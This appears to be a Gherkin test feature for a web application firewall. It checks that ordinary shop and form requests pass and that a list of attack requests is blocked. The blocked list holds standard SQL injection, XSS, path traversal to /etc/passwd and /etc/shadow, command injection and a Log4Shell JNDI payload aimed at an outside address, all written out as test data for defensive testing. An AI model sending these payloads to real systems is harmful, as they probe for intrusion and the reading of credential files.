@waas @rates @needs:waas
Feature: What passes, and what does not, with every protection at prevent
  Ordinary requests of shops, offices and programs pass; attacks of every class, plain and disguised, do not. How many of a public corpus pass or
  are found is measured by `proofhouse waf`, which sends any corpus.

  Background:
    Given the task definition "two-apps"
    And the firewall rule "front door" from port 80 to port 7001:
      | protection    | effect  |
      | sqli          | prevent |
      | xss           | prevent |
      | cmdi          | prevent |
      | codeInjection | prevent |
      | lfi           | prevent |
      | attackTools   | prevent |
      | shellshock    | prevent |
      | malformedReq  | prevent |
    And the protected task is running

  Rule: Ordinary requests pass

    @waas-730 @W126 @core
    Scenario: Searches, forms, documents, names and prose
      When a client at "203.0.113.7" sends these requests on port 80:
        | GET /                                                                   |                                   |                                                                                |
        | GET /search?q=running%20shoes%20size%2042&sort=price                    |                                   |                                                                                |
        | GET /search?q=O%27Brien                                                 |                                   |                                                                                |
        | GET /search?q=select%20a%20plan                                         |                                   |                                                                                |
        | GET /users/7/orders/2026-01-02?page=2&per_page=50                       |                                   |                                                                                |
        | GET /files/Annual%20Report%20(final).pdf                                |                                   |                                                                                |
        | GET /catalog?ids=1,2,3&filter[color]=red                                |                                   |                                                                                |
        | GET /callback?code=4%2F0AX4XfWj&state=xyz&scope=email%20profile         |                                   |                                                                                |
        | POST /login                                                             | application/x-www-form-urlencoded | user=anna%40example.com&password=correct+horse+battery+staple                  |
        | POST /comments                                                          | application/x-www-form-urlencoded | text=I+ordered+it+on+Monday%2C+and+it+came+on+Tuesday.+Great%21                |
        | POST /comments                                                          | application/json                  | {"text": "It's the best shop in town, and the prices are fair.", "stars": 5}   |
        | POST /orders                                                            | application/json                  | {"items": [{"sku": "A-17", "count": 2}], "note": "Ring at the back door"}      |
        | PUT /profile                                                            | application/json                  | {"name": "Zoë Müller-Lüdenscheidt", "phone": "+49 30 1234567", "street": null} |
        | POST /feed                                                              | application/xml                   | <entry><title>News of the week</title><author>Anna</author></entry>            |
        | POST /notes                                                             | text/plain                        | Remember to call the plumber; the kitchen sink is leaking again.               |
      Then every response has status 200
      And no audit tells of it

  Rule: Attacks of every class do not

    @waas-731 @W127 @core
    Scenario: Plain, encoded, and in every kind of body
      When a client at "203.0.113.7" sends these requests on port 80:
        | GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-          |                                   |                                                                                |
        | GET /?id=1%2527%2520OR%2520%25271%2527%253D%25271                       |                                   |                                                                                |
        | GET /?id=1%20AND%20SLEEP(5)                                             |                                   |                                                                                |
        | GET /?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E                             |                                   |                                                                                |
        | GET /?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E                        |                                   |                                                                                |
        | GET /?file=..%2F..%2F..%2Fetc%2Fpasswd                                  |                                   |                                                                                |
        | GET /?file=%2Fetc%2Fshadow                                              |                                   |                                                                                |
        | GET /?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd                            |                                   |                                                                                |
        | GET /?host=%24(sleep%205)                                               |                                   |                                                                                |
        | GET /?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex |                                  |                                                                                |
        | GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D                    |                                   |                                                                                |
        | POST /login                                                             | application/x-www-form-urlencoded | user=admin%27--&password=x%27+OR+%271%27%3D%271                                |
        | POST /comments                                                          | application/json                  | {"text": "<svg onload=alert(1)>"}                                              |
        | POST /comments                                                          | application/json                  | {"a": {"b": ["1' OR '1'='1"]}}                                                 |
        | POST /feed                                                              | application/xml                   | <entry><title>1' UNION SELECT 1,2,3--</title></entry>                          |
        | POST /notes                                                             | text/plain                        | ; cat /etc/passwd                                                              |
      Then every response has status 403
      And 16 audits tell of it
